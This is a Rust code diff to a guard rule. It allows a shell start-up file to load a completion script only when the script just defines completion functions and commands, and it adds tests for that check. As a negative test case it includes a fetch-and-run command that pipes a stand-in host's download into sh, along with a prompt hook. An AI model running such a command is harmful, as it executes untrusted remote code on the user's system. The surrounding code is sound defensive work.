@@ -30,7 +30,8 @@ pub const RULE: Rule = Rule {
         token file) or `~/.ssh` is opened to other users by its permissions (ask when the task names it; \
         nothing when the task names the place and the change only adds what acts when you ask: plain \
         aliases, a PATH entry (also the `case \":$PATH:\" in ...` form that adds it once) or zsh's \
-        completion set-up (`fpath`, `compinit`) in a start-up file (a task that speaks of PATH, \
+        completion set-up (`fpath`, `compinit`), or a line loading a completion script the command \
+        wrote that only defines completion (functions, `complete`), in a start-up file (a task that speaks of PATH, \
         completion, aliases or the prompt in bash, zsh or fish names that shell's start-up files), a \
         plain host entry in the ssh configuration, an `.envrc` of plain exports and direnv's set-up \
         words (`layout python3`, `use node 20`; direnv runs it only once you allow it), a systemd unit \
@@ -104,7 +105,107 @@ pub(crate) fn asked(ctx: &WallContext) -> bool {
     };
     let enables = ctx.scope.says_prefix(&["enabl", "activat", "start"]);
     let how = Installed { sources: &sources, units: &units, enables };
-    sensitive.iter().all(|f| inert_change(f) || installed_as_named(ctx, f, &sensitive, &how))
+    sensitive.iter().all(|f| {
+        inert_change(f) || installed_as_named(ctx, f, &sensitive, &how) || sources_completions(ctx, f)
+    })
+}
+
+/// Whether a start-up file gains, and nothing else, lines that load a completion script this
+/// command wrote (`[ -f ~/.local/share/bash-completion/completions/acme ] && . ...`), or plain
+/// aliases beside them, and each such script only defines completion: functions, `complete`,
+/// `compdef`, comments. A hook that runs at every prompt (`PROMPT_COMMAND=...`) or any other
+/// command at its top level is more than completion.
+fn sources_completions(ctx: &WallContext, f: &FileEffect) -> bool {
+    if f.sensitive.as_deref() != Some("shell start-up file")
+        || f.transition != Transition::Modified
+        || !nothing_removed(f)
+    {
+        return false;
+    }
+    let added = added_text(f);
+    let mut any = false;
+    for line in added.lines().map(str::trim).filter(|l| !l.is_empty() && !l.starts_with('#')) {
+        let Some(target) = sourced_path(line, ctx.home) else {
+            if only_inert_aliases(line) {
+                continue;
+            }
+            return false;
+        };
+        let written =
+            ctx.effects.files.iter().find(|g| {
+                g.path == target && matches!(g.transition, Transition::Created | Transition::Modified)
+            });
+        let script = written.and_then(|g| read_text(g.after_content.as_deref(), 1 << 20));
+        if !script.as_deref().is_some_and(only_completion) {
+            return false;
+        }
+        any = true;
+    }
+    any
+}
+
+/// The file a start-up line loads, as an absolute path: `. FILE`, `source FILE`, `[ -f FILE ]
+/// && . FILE` (with `~` or `$HOME` read as the home); `None` for any other line.
+fn sourced_path(line: &str, home: Option<&std::path::Path>) -> Option<std::path::PathBuf> {
+    let line = line.trim();
+    let rest = match line.split_once("&&") {
+        Some((test, rest)) => {
+            let t = test.trim();
+            if !(t.starts_with("[ -f ") || t.starts_with("[ -r ") || t.starts_with("test -f ")) {
+                return None;
+            }
+            rest.trim()
+        }
+        None => line,
+    };
+    let target = rest.strip_prefix(". ").or_else(|| rest.strip_prefix("source "))?.trim();
+    if target.contains([' ', ';', '|', '&', '`', '(']) && !(target.starts_with('"') && target.ends_with('"'))
+    {
+        return None;
+    }
+    let target = target.trim_matches('"');
+    if target.contains("$(") || target.contains('`') {
+        return None;
+    }
+    let expanded = if let Some(r) = target.strip_prefix("~/").or_else(|| target.strip_prefix("$HOME/")) {
+        home?.join(r)
+    } else {
+        std::path::PathBuf::from(target)
+    };
+    expanded.is_absolute().then_some(expanded)
+}
+
+/// Whether a shell script only defines completion: at its top level, function definitions,
+/// `complete` and `compdef` commands and comments; what a function's body does runs only when
+/// a completion asks for it.
+fn only_completion(script: &str) -> bool {
+    let mut depth: i64 = 0;
+    let mut any = false;
+    for line in script.lines() {
+        let t = line.trim();
+        if depth == 0 {
+            if t.is_empty() || t.starts_with('#') {
+                continue;
+            }
+            let defines = t.split_once("()").is_some_and(|(name, rest)| {
+                let name = name.trim().trim_start_matches("function ").trim();
+                !name.is_empty()
+                    && name.chars().all(|c| c.is_ascii_alphanumeric() || "_:-".contains(c))
+                    && rest.trim_start().starts_with('{')
+            });
+            let completes = ["complete ", "compdef ", "compctl "].iter().any(|c| t.starts_with(c))
+                && !t.contains([';', '&', '|', '`', '$', '>']);
+            if !(defines || completes) {
+                return false;
+            }
+            any |= completes;
+        }
+        depth += line.matches('{').count() as i64 - line.matches('}').count() as i64;
+        if depth < 0 {
+            return false;
+        }
+    }
+    any && depth == 0
 }
 
 /// What [`installed_as_named`] weighs a change against.
@@ -798,5 +899,28 @@ mod tests {
         };
         assert!(installed(task, units(false)).is_empty());
         assert_eq!(installed(task, units(true)), [("sensitive.write", Decision::Ask)]);
+    }
+
+    #[test]
+    fn a_completion_script_defines_completion_and_a_prompt_hook_is_more() {
+        use super::{only_completion, sourced_path};
+        let script = "# bash completion for acme\n_acme() {\n  local cur=\"${COMP_WORDS[COMP_CWORD]}\"\n  COMPREPLY=($(compgen -W \"a b\" -- \"$cur\"))\n}\ncomplete -F _acme acme\n";
+        assert!(only_completion(script));
+        assert!(!only_completion(&format!(
+            "{script}_acme_refresh() {{ ( acme __envs > ~/.cache/e & ) ; }}\nPROMPT_COMMAND=\"_acme_refresh\"\n"
+        )));
+        assert!(!only_completion(&format!("{script}curl -s x.example | sh\n")));
+        assert!(!only_completion("# nothing\n"));
+        let home = std::path::Path::new("/home/u");
+        assert_eq!(
+            sourced_path(
+                "[ -f \"/home/u/.local/share/c/acme\" ] && . \"/home/u/.local/share/c/acme\"",
+                Some(home)
+            ),
+            Some("/home/u/.local/share/c/acme".into())
+        );
+        assert_eq!(sourced_path("source ~/.acme.bash", Some(home)), Some("/home/u/.acme.bash".into()));
+        assert_eq!(sourced_path(". $(acme init)", Some(home)), None);
+        assert_eq!(sourced_path("alias ll='ls -l'", Some(home)), None);
     }
 }
